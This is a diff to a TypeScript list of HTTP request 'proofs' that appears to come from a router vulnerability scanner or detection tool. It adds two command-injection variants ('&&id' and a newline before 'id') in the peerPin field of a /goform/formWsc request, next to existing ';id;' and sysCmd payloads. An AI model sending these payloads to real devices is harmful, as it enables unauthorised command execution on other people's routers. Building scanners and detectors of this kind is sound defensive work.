@@ -7,6 +7,8 @@ export const proofs: readonly Proof[] = [
       post('/goform/formSysCmd', 'sysCmd=id'),
       post('/boafrm/formWsc', 'submit-url=/wlwps.asp&peerPin=12345678;id;&setPIN=Start+PIN'),
       post('/goform/formWsc', 'submit-url=%2Fwlwps.asp&peerPin=12345678%3Bid%3B&setPIN=Start+PIN'),
+      post('/goform/formWsc', 'submit-url=%2Fwlwps.asp&peerPin=12345678%26%26id&setPIN=Start+PIN'),
+      post('/goform/formWsc', 'submit-url=%2Fwlwps.asp&peerPin=12345678%0Aid&setPIN=Start+PIN'),
     ],
     [
       get('/goform/formSysCmd'),
